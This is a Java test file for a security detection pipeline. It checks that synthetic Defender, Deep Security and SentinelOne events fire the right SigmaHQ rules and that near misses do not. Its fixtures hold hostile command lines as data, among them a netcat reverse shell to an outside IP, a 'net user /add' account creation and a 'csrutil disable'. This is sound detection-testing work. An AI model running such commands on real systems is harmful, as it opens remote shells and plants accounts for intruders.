package io.socaas.correlation.sigma.yaml;

import static io.socaas.correlation.sigma.yaml.IngestedEvents.antivirusRules;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.fired;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.id;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedAny;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.isAntivirus;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.json;
import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
import static org.assertj.core.api.Assertions.assertThat;

import io.socaas.correlation.detection.domain.EventAdmission;
import io.socaas.correlation.sigma.domain.Logsource;
import io.socaas.events.ocsf.OcsfNormalizer;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.BiFunction;
import org.junit.jupiter.api.Test;

/**
 * Microsoft Defender for Endpoint's antivirus detections in the DeviceEvents table, Trend Micro Deep
 * Security's anti-malware events in LEEF and SentinelOne's Deep Visibility process creations, as
 * ingestion normalizes them (event-model's {@link OcsfNormalizer}, then {@link EventAdmission}), reach
 * the Sigma logsources SigmaHQ's rules are written for: the detections are {@code antivirus} events
 * whose Signature is the product's name of the threat, the process creations {@code process_creation}
 * events of the endpoint's own platform. A corpus rule fires on the attack and not on the near miss:
 * another threat, the action taken on a detection, another kind of event, the same command on another
 * platform. Events are written after the products' documented formats with invented values. Without
 * the corpus ({@code SOCAAS_CORPUS}) the tests are skipped.
 */
class EndpointTelemetryLogsourcesTest {

    private static final String AV = "rules/category/antivirus/";
    private static final String HACKTOOL = AV + "av_hacktool.yml";
    private static final String PASSWORD_DUMPER = AV + "av_password_dumper.yml";
    private static final String WEBSHELL = AV + "av_webshell.yml";

    // ---- Defender for Endpoint: DeviceEvents ---------------------------------------------------------

    /** A DeviceEvents row: the device, the file and the process that touched it, and AdditionalFields (text or object). */
    private static Map<String, Object> deviceEvent(String actionType, String path, Object additionalFields) {
        Map<String, Object> row = new LinkedHashMap<>();
        row.put("Timestamp", "2026-03-01T08:15:42.5510000Z");
        row.put("DeviceId", "0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d");
        row.put("DeviceName", "ws-acct-07.fabrikam.example");
        row.put("ActionType", actionType);
        row.put("FileName", path.substring(path.lastIndexOf('\\') + 1));
        row.put("FolderPath", path);
        row.put("SHA1", "8f2e4d6c0b1a3e5f7d9c8b6a4e2f0d1c3b5a7e9f");
        row.put("InitiatingProcessFileName", "explorer.exe");
        row.put("InitiatingProcessFolderPath", "c:\\windows\\explorer.exe");
        row.put("InitiatingProcessAccountDomain", "fabrikam");
        row.put("InitiatingProcessAccountName", "l.moreau");
        row.put("ReportId", 30117);
        if (additionalFields != null) {
            row.put("AdditionalFields", additionalFields);
        }
        return row;
    }

    private static String streamed(Map<String, Object> row) {
        Map<String, Object> record = new LinkedHashMap<>();
        record.put("time", "2026-03-01T08:16:03.0000000Z");
        record.put("tenantId", "7a6b5c4d-3e2f-1a0b-9c8d-7e6f5a4b3c2d");
        record.put("operationName", "Publish");
        record.put("category", "AdvancedHunting-DeviceEvents");
        record.put("properties", row);
        return json(record);
    }

    private static String logAnalytics(Map<String, Object> row) {
        Map<String, Object> record = new LinkedHashMap<>();
        record.put("TenantId", "7a6b5c4d-3e2f-1a0b-9c8d-7e6f5a4b3c2d");
        record.put("Type", "DeviceEvents");
        record.put("TimeGenerated", "2026-03-01T08:16:10Z");
        record.putAll(row);
        return json(record);
    }

    /** The threat as Defender writes AdditionalFields: a JSON text. */
    private static String threatText(String threat) {
        return json(Map.of("ThreatName", threat, "WasRemediated", true, "WasExecutingWhileDetected", false));
    }

    /** Defender's antivirus detection in each of the shapes it arrives in. */
    private static List<BiFunction<String, String, String>> defenderDetections(String actionType) {
        return List.of(
                (threat, path) -> streamed(deviceEvent(actionType, path, threatText(threat))),
                (threat, path) -> logAnalytics(deviceEvent(actionType, path, threatText(threat))),
                // a Log Analytics row whose AdditionalFields, a dynamic column, is exported as an object
                (threat, path) -> logAnalytics(
                        deviceEvent(actionType, path, Map.of("ThreatName", threat, "WasRemediated", false))));
    }

    private static final String TOOL = "C:\\Users\\l.moreau\\Downloads\\tools\\mk.exe";
    private static final String SHELL = "C:\\inetpub\\wwwroot\\owa\\auth\\signout.aspx";
    private static final String SETUP = "C:\\Users\\l.moreau\\Downloads\\pdfmagic_setup.exe";

    @Test
    void defenderAntivirusDetectionsFireSigmaHqAntivirusRulesByTheirThreatName() {
        assumeCorpus();
        Set<String> antivirus = antivirusRules();
        for (String actionType : List.of("AntivirusDetection", "AntivirusReport")) {
            for (BiFunction<String, String, String> detection : defenderDetections(actionType)) {
                String hacktool = detection.apply("HackTool:Win32/Mimikatz!pz", TOOL);
                assertThat(isAntivirus(hacktool)).as(hacktool).isTrue();
                assertThat(fired(ingestedAny(hacktool))).as(hacktool).contains(id(HACKTOOL), id(PASSWORD_DUMPER));

                String webshell = detection.apply("Backdoor:ASP/Chopper.F!dha", SHELL);
                assertThat(fired(ingestedAny(webshell)))
                        .as(webshell)
                        .contains(id(WEBSHELL))
                        .doesNotContain(id(HACKTOOL));

                // a potentially unwanted application is an antivirus event that fires no antivirus rule
                String pua = detection.apply("PUA:Win32/PdfMagic", SETUP);
                assertThat(isAntivirus(pua)).as(pua).isTrue();
                assertThat(fired(ingestedAny(pua))).as(pua).doesNotContainAnyElementsOf(antivirus);
            }
        }
    }

    @Test
    void defenderDeviceEventsOtherThanDetectionsAreNoAntivirusEvents() {
        assumeCorpus();
        Set<String> antivirus = antivirusRules();
        Map<String, String> others = new LinkedHashMap<>();
        // the action taken on a detection names the same threat
        others.put(
                "action taken",
                streamed(deviceEvent(
                        "AntivirusDetectionActionType",
                        TOOL,
                        json(Map.of("ThreatName", "HackTool:Win32/Mimikatz!pz", "Action", "quarantine")))));
        others.put(
                "smartscreen",
                streamed(deviceEvent(
                        "SmartScreenAppWarning",
                        TOOL,
                        json(Map.of("Experience", "Untrusted", "ThreatName", "Mimikatz")))));
        others.put("asr", logAnalytics(deviceEvent("AsrExecutableEmailContentBlocked", TOOL, null)));
        others.put(
                "network protection",
                streamed(deviceEvent(
                        "ExploitGuardNetworkProtectionBlocked",
                        TOOL,
                        json(Map.of("ResponseCategory", "Malicious", "DisplayName", "Mimikatz download")))));
        for (Map.Entry<String, String> other : others.entrySet()) {
            Map<String, Object> event = ingestedAny(other.getValue());
            assertThat(logsources(event).stream().map(Logsource::category))
                    .as(other.getKey())
                    .doesNotContain("antivirus");
            assertThat(fired(event)).as(other.getKey()).doesNotContainAnyElementsOf(antivirus);
        }
    }

    // ---- Trend Micro Deep Security in LEEF ----------------------------------------------------------

    private static String deepSecurityLeef(String eventId, String attributes) {
        return "<134>Mar  1 08:20:00 dsm-eu01 LEEF:2.0|Trend Micro|Deep Security Agent|20.0.877|" + eventId + "|x09|"
                + attributes.replace("|", "\t");
    }

    @Test
    void deepSecurityLeefAntiMalwareEventsFireAntivirusRulesAndItsFirewallEventsNone() {
        assumeCorpus();
        String hacktool = deepSecurityLeef(
                "4000000",
                "cat=Anti-Malware|name=HackTool.Win64.Mimikatz.SWG|desc=HackTool.Win64.Mimikatz.SWG|sev=6"
                        + "|dvchost=app-srv-12|filePath=C:\\\\ProgramData\\\\mk64.exe|act=Quarantine|msg=Realtime");
        assertThat(isAntivirus(hacktool)).isTrue();
        assertThat(fired(ingestedAny(hacktool))).contains(id(HACKTOOL), id(PASSWORD_DUMPER));

        String adware = hacktool.replace("HackTool.Win64.Mimikatz.SWG", "Adware.Win32.OpenCandy.A");
        assertThat(isAntivirus(adware)).isTrue();
        assertThat(fired(ingestedAny(adware))).doesNotContainAnyElementsOf(antivirusRules());

        String firewall = deepSecurityLeef(
                "20",
                "cat=Firewall|name=Mimikatz remote share|sev=5|dvchost=app-srv-12|src=10.9.0.4|dst=10.9.0.12"
                        + "|srcPort=50122|dstPort=445|proto=TCP|act=Deny");
        assertThat(isAntivirus(firewall)).isFalse();
        assertThat(fired(ingestedAny(firewall))).doesNotContainAnyElementsOf(antivirusRules());
    }

    // ---- SentinelOne Deep Visibility ---------------------------------------------------------------

    private static final Logsource WINDOWS_PROCESS_CREATION = new Logsource("windows", "process_creation", null);
    private static final Logsource LINUX_PROCESS_CREATION = new Logsource("linux", "process_creation", null);

    /** A Process Creation as Cloud Funnel exports it, on an endpoint of the given platform. */
    private static String cloudFunnel(String os, String creator, String image, String commandLine) {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("event.type", "Process Creation");
        event.put("event.category", "process");
        event.put("dataSource.name", "SentinelOne");
        event.put("dataSource.vendor", "SentinelOne");
        event.put("endpoint.name", "ep-" + os + "-031");
        event.put("endpoint.os", os);
        event.put("agent.uuid", "0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a");
        event.put("event.time", 1772352900250L);
        event.put(
                "src.process.name",
                creator.substring(Math.max(creator.lastIndexOf('\\'), creator.lastIndexOf('/')) + 1));
        event.put("src.process.image.path", creator);
        event.put("src.process.cmdline", creator);
        event.put("src.process.pid", 4410);
        event.put("src.process.user", "windows".equals(os) ? "FABRIKAM\\l.moreau" : "www-data");
        event.put("tgt.process.name", image.substring(Math.max(image.lastIndexOf('\\'), image.lastIndexOf('/')) + 1));
        event.put("tgt.process.image.path", image);
        event.put("tgt.process.cmdline", commandLine);
        event.put("tgt.process.pid", 4518);
        event.put("tgt.process.user", "windows".equals(os) ? "FABRIKAM\\l.moreau" : "www-data");
        event.put("tgt.process.integrityLevel", "MEDIUM");
        return json(event);
    }

    /** The same as the Deep Visibility API returns it. */
    private static String deepVisibilityApi(String os, String creator, String image, String commandLine) {
        Map<String, Object> event = new LinkedHashMap<>();
        event.put("eventType", "Process Creation");
        event.put("objectType", "process");
        event.put("agentUuid", "0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a");
        event.put("agentName", "ep-" + os + "-032");
        event.put("agentOs", os);
        event.put("endpointName", "ep-" + os + "-032");
        event.put("eventTime", "2026-03-01T08:15:00.250Z");
        event.put("srcProcName", creator.substring(Math.max(creator.lastIndexOf('\\'), creator.lastIndexOf('/')) + 1));
        event.put("srcProcImagePath", creator);
        event.put("srcProcCmdLine", creator);
        event.put("srcProcPid", "4410");
        event.put("tgtProcName", image.substring(Math.max(image.lastIndexOf('\\'), image.lastIndexOf('/')) + 1));
        event.put("tgtProcImagePath", image);
        event.put("tgtProcCmdLine", commandLine);
        event.put("tgtProcPid", "4518");
        event.put("tgtProcUser", "windows".equals(os) ? "FABRIKAM\\l.moreau" : "www-data");
        return json(event);
    }

    private interface ProcessCreation {
        String of(String os, String creator, String image, String commandLine);
    }

    private static final List<ProcessCreation> SHAPES =
            List.of(EndpointTelemetryLogsourcesTest::cloudFunnel, EndpointTelemetryLogsourcesTest::deepVisibilityApi);

    @Test
    void sentinelOneProcessCreationsFireProcessCreationRulesOfTheirPlatform() {
        assumeCorpus();
        String whoami = id("rules/windows/process_creation/proc_creation_win_whoami_all_execution.yml");
        String netUserAdd = id("rules/windows/process_creation/proc_creation_win_net_user_add.yml");
        String reverseShell = id("rules/linux/process_creation/proc_creation_lnx_netcat_reverse_shell.yml");
        String csrutil = id("rules/macos/process_creation/proc_creation_macos_csrutil_disable.yml");
        for (ProcessCreation shape : SHAPES) {
            String discovery = shape.of(
                    "windows",
                    "C:\\Windows\\System32\\cmd.exe",
                    "C:\\Windows\\System32\\whoami.exe",
                    "whoami.exe /all");
            assertThat(logsources(ingestedAny(discovery))).contains(WINDOWS_PROCESS_CREATION);
            assertThat(fired(ingestedAny(discovery))).as(discovery).contains(whoami);
            // the near miss: whoami without /all
            assertThat(fired(ingestedAny(shape.of(
                            "windows",
                            "C:\\Windows\\System32\\cmd.exe",
                            "C:\\Windows\\System32\\whoami.exe",
                            "whoami.exe /user"))))
                    .doesNotContain(whoami);

            String account = shape.of(
                    "windows",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "C:\\Windows\\System32\\net.exe",
                    "net user svc_sql2 Spring2026! /add");
            assertThat(fired(ingestedAny(account))).as(account).contains(netUserAdd);

            String shell = shape.of("linux", "/usr/sbin/apache2", "/usr/bin/nc", "nc 203.0.113.50 4444 -e /bin/bash");
            assertThat(logsources(ingestedAny(shell)))
                    .contains(LINUX_PROCESS_CREATION)
                    .doesNotContain(WINDOWS_PROCESS_CREATION);
            assertThat(fired(ingestedAny(shell))).as(shell).contains(reverseShell);
            // a Windows rule does not read a Linux endpoint's process, even where its paths would match
            assertThat(fired(ingestedAny(shape.of("linux", "/usr/bin/bash", "/tmp/whoami.exe", "whoami.exe /all"))))
                    .doesNotContain(whoami);

            String sip = shape.of("osx", "/bin/zsh", "/usr/bin/csrutil", "csrutil disable");
            assertThat(fired(ingestedAny(sip))).as(sip).contains(csrutil);
            assertThat(fired(ingestedAny(shape.of("osx", "/bin/zsh", "/usr/bin/csrutil", "csrutil status"))))
                    .doesNotContain(csrutil);
        }
        // other Deep Visibility events are no process creations
        String dns = json(Map.of(
                "event.type", "DNS Resolved",
                "dataSource.name", "SentinelOne",
                "endpoint.name", "ep-windows-031",
                "endpoint.os", "windows",
                "event.dns.request", "whoami.example.org",
                "src.process.name", "whoami.exe",
                "src.process.image.path", "C:\\Windows\\System32\\whoami.exe",
                "src.process.cmdline", "whoami.exe /all"));
        assertThat(logsources(ingestedAny(dns))).doesNotContain(WINDOWS_PROCESS_CREATION);
        assertThat(fired(ingestedAny(dns))).doesNotContain(whoami);
    }
}
